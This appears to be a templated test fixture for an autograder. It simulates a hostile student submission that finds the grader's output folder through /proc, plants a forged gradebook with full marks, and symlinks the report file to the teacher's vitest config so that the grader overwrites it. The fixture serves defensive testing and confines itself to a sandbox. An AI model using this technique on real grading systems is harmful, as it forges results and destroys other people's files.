// Attack: writes to the grader's output folder (found on the grader's command line, or guessed) before
// the grader writes it: a forged gradebook beside the real one, and gradebook.html as a symlink to the
// teacher's vitest.config.ts, so that the grader itself overwrites the teacher's config when it writes.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
const MARK = ['hostile', '{{NAME}}'].join(':');

const outs = new Set(['{{OUT}}']);
const workbooks = new Set([process.cwd(), '{{WORKBOOK}}']);
try {
  const grader = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0');
  const cwd = `/proc/${process.ppid}/cwd`;
  const at = grader.indexOf('--out');
  if (at !== -1 && grader[at + 1] !== undefined) outs.add(resolve(cwd, grader[at + 1] as string));
} catch {
  // no /proc, or not allowed
}
for (const out of outs) {
  if (!mine(out)) continue;
  try {
    mkdirSync(out, { recursive: true });
    writeFileSync(join(out, 'gradebook-final.csv'), `student,total\n{{NAME}},300\n# ${MARK}\n`);
    for (const workbook of workbooks) {
      const config = join(workbook, 'vitest.config.ts');
      if (mine(config) && existsSync(config) && !existsSync(join(out, 'gradebook.html'))) symlinkSync(config, join(out, 'gradebook.html'));
    }
  } catch {
    // not allowed
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
